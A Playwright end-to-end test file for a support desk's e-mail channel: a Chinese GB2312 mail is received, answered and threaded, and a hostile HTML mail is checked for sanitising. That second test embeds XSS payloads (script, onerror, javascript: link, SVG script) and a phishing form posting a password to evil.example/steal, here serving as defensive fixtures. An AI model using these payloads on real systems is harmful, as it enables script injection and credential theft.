import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Database from 'better-sqlite3';
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { simpleParser } from 'mailparser';
import { createTransport } from 'nodemailer';
import { SMTPServer } from 'smtp-server';
import { e2ePort, e2eRelaySinkPort, e2eSmtpPort } from './email-ports';
import { SeatPage } from './pages/seat-page';

// E-mail end to end: a customer's mail sent over SMTP to the server's receiver reaches agent24's
// inbox, opens in the e-mail pane sanitised, and the agent's reply leaves through the relay (a sink
// started here) with the threading headers; a hostile mail runs no script and loads no remote image
// until the agent allows it. agent24 is the e-mail spec's own agent (see the common allocation).

const agentUsername = 'agent24';
const agentId = `demo-agent-${agentUsername}`;

interface Sunk {
  to: string[];
  raw: Buffer;
}

/** A customer whose account manager is agent24, so the router offers their mail to agent24 first. */
function customerManagedByAgent(): { email: string; name: string } {
  const dataDir = process.env.SEAT_E2E_PORT ? `test-results/e2e-data-${e2ePort}` : 'test-results/e2e-data';
  const db = new Database(path.resolve(import.meta.dirname, '..', dataDir, 'seat.sqlite'), {
    readonly: true,
    fileMustExist: true,
  });
  try {
    const row = db
      .prepare(
        `SELECT c.name AS name, p.value AS email FROM customers c JOIN customer_contact_points p ON p.customer_id = c.id
         WHERE c.account_manager_agent_id = ? AND p.kind = 'email' AND c.blacklist_status = 'none'
         AND (SELECT COUNT(*) FROM customer_contact_points q WHERE q.kind = 'email' AND lower(q.value) = lower(p.value)) = 1
         ORDER BY c.id LIMIT 1`,
      )
      .get(agentId) as { name: string; email: string } | undefined;
    if (!row)
      throw new Error(`the demo seed has no customer with an e-mail address managed by ${agentUsername}`);
    return row;
  } finally {
    db.close();
  }
}

let sink: SMTPServer;
const sunk: Sunk[] = [];
let imageHits = 0;
let imageServer: ReturnType<typeof createServer>;
let imagePort = 0;

test.beforeAll(async () => {
  sink = new SMTPServer({
    authOptional: true,
    disabledCommands: ['AUTH', 'STARTTLS'],
    logger: false,
    onData(stream, session, callback) {
      const chunks: Buffer[] = [];
      stream.on('data', (c: Buffer) => chunks.push(c));
      stream.on('end', () => {
        sunk.push({ to: session.envelope.rcptTo.map((r) => r.address), raw: Buffer.concat(chunks) });
        callback();
      });
    },
  });
  await new Promise<void>((resolve, reject) => {
    sink.once('error', reject);
    sink.listen(e2eRelaySinkPort, '127.0.0.1', () => resolve());
  });
  imageServer = createServer((request, response) => {
    if (request.url?.startsWith('/pixel.png')) imageHits += 1;
    response.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' });
    response.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
  });
  await new Promise<void>((resolve) => imageServer.listen(0, '127.0.0.1', () => resolve()));
  imagePort = (imageServer.address() as AddressInfo).port;
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => sink.close(() => resolve()));
  await new Promise<void>((resolve) => imageServer.close(() => resolve()));
});

async function sendToSupport(raw: string): Promise<string> {
  const transport = createTransport({ host: '127.0.0.1', port: e2eSmtpPort, secure: false, ignoreTLS: true });
  try {
    const info = await transport.sendMail({
      envelope: { from: 'customer@example.cn', to: ['support@demo.seat.test'] },
      raw,
    });
    return info.messageId;
  } finally {
    transport.close();
  }
}

/** Signs agent24 in, Ready, and returns the page object. */
async function readyAgent(page: Page): Promise<SeatPage> {
  const seat = new SeatPage(page);
  await seat.open();
  await seat.signInToShell(agentUsername);
  await seat.chooseState('ready');
  await seat.expectState('ready');
  return seat;
}

/** Accepts the one e-mail offer in the inbox and waits for its pane to show the subject. */
async function acceptEmailOffer(seat: SeatPage, subject: string) {
  const inbox = seat.pane('inbox');
  const offer = inbox.locator('.ag-row').filter({ has: seat.page.locator('[data-state="offered"]') });
  await expect(offer).toHaveCount(1);
  await offer.getByRole('button', { name: /^Accept offer/ }).click();
  // Earlier e-mails stay open in their own (hidden) tabs: pick this one's pane by its subject.
  const pane = seat.page
    .getByTestId('email-pane')
    .filter({ has: seat.page.getByTestId('email-subject').getByText(subject, { exact: true }) });
  await expect(pane).toBeVisible();
  return pane;
}

test.describe.serial('e-mail', () => {
  // SMTP in, routing, two page loads and SMTP out: more steps than the default 30 s allows on a busy machine.
  test.setTimeout(60_000);

  test('a GB2312 e-mail sent over SMTP reaches agent24, shows in Chinese, and the reply leaves with In-Reply-To and References', async ({
    page,
  }) => {
    const customer = customerManagedByAgent();
    const seat = await readyAgent(page);
    const messageId = `<e2e-invoice-${Date.now()}@example.cn>`;
    const raw = [
      `From: =?GB2312?B?s8K93A==?= <${customer.email}>`,
      'To: support@demo.seat.test',
      'Subject: =?GB2312?B?t6LGsdTaxMTA76O/?=',
      `Message-ID: ${messageId}`,
      `Date: ${new Date().toUTCString()}`,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=GB2312',
      'Content-Transfer-Encoding: base64',
      '',
      'PHA+xPq6w6OsztK1xLeixrHU2sTEwO+jv7aptaW6xSAyMDI2MDMwMqGjPC9wPjxwPtC70LujoTxicj6zwr3cPC9wPg==',
      '',
    ].join('\r\n');
    await sendToSupport(raw);

    const pane = await acceptEmailOffer(seat, '发票在哪里？');
    const inbound = pane.locator('[data-testid="email-message"][data-direction="inbound"]');
    const body = inbound.frameLocator('[data-testid="email-frame"]');
    await expect(body.locator('body')).toContainText('您好，我的发票在哪里？订单号 20260302。');

    await inbound.getByTestId('email-reply').click();
    const composer = pane.getByTestId('email-composer');
    await expect(composer.getByTestId('email-computed-recipients')).toContainText(customer.email);
    await composer.getByTestId('email-composer-text').fill('陈先生您好，发票已重新发送到您的邮箱。');
    await composer.getByTestId('email-send').click();
    await expect(composer).toHaveCount(0);
    await expect(
      pane.locator('[data-testid="email-message"][data-direction="outbound"]').last(),
    ).toContainText('Sent');

    const isReply = (parsed: Awaited<ReturnType<typeof simpleParser>>) =>
      parsed.subject === 'Re: 发票在哪里？' && !parsed.headers.get('auto-submitted');
    const parsedMail = new Map<Sunk, Awaited<ReturnType<typeof simpleParser>>>();
    const findReply = async () => {
      for (const mail of sunk) {
        const parsed = parsedMail.get(mail) ?? (await simpleParser(mail.raw));
        parsedMail.set(mail, parsed);
        if (isReply(parsed)) return { mail, parsed };
      }
      return undefined;
    };
    await expect.poll(findReply).toBeDefined();
    const reply = await findReply();
    if (!reply) throw new Error('the reply is not at the sink');
    expect(reply.mail.to).toEqual([customer.email]);
    expect(reply.parsed.inReplyTo).toBe(messageId);
    expect([reply.parsed.references].flat()).toContain(messageId);
    expect(reply.parsed.text).toContain('陈先生您好，发票已重新发送到您的邮箱。');
    expect(reply.parsed.text).toContain('> 您好，我的发票在哪里？');

    // Done with it: end the e-mail, finish wrap-up with an outcome, and its tab closes.
    await pane.getByTestId('email-end').click();
    await pane.getByTestId('email-wrapup').getByRole('button', { name: 'Finish' }).click();
    await expect(pane).toHaveCount(0);
  });

  test('a hostile HTML e-mail runs no script and fetches its remote image only once the agent allows it', async ({
    page,
  }) => {
    const customer = customerManagedByAgent();
    const seat = await readyAgent(page);
    const pixel = `http://127.0.0.1:${imagePort}/pixel.png?open=1`;
    const html = [
      '<p id="greeting">Hello, please read</p>',
      '<script>parent.document.title = "pwned"; top.__pwned = 1;</script>',
      '<img src="x" onerror="parent.document.title = \'pwned\'; top.__pwned = 2">',
      `<img id="tracker" src="${pixel}" alt="tracker">`,
      '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
      '<a id="bad" href="javascript:top.__pwned=3">click me</a>',
      '<svg><script>top.__pwned = 4</script></svg>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    ].join('');
    const raw = [
      `From: ${customer.email}`,
      'To: support@demo.seat.test',
      'Subject: Account check',
      `Message-ID: <e2e-hostile-${Date.now()}@example.cn>`,
      `Date: ${new Date().toUTCString()}`,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '',
    ].join('\r\n');
    await sendToSupport(raw);

    const pane = await acceptEmailOffer(seat, 'Account check');
    const inbound = pane.locator('[data-testid="email-message"][data-direction="inbound"]');
    const frame = inbound.frameLocator('[data-testid="email-frame"]');
    // The server's sanitiser drops id attributes, so the parts are found by text and alt.
    await expect(frame.getByText('Hello, please read')).toBeVisible();
    await expect(inbound.getByTestId('email-removed-note')).toBeVisible();
    await expect(frame.locator('script, form, input, svg, meta[http-equiv="refresh"]')).toHaveCount(0);
    await frame.getByText('click me').click();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.title()).not.toBe('pwned');
    expect(imageHits).toBe(0);

    await inbound.getByTestId('email-show-remote').click();
    await expect(frame.getByAltText('tracker')).toHaveAttribute('src', pixel);
    await expect.poll(() => imageHits).toBeGreaterThan(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });
});
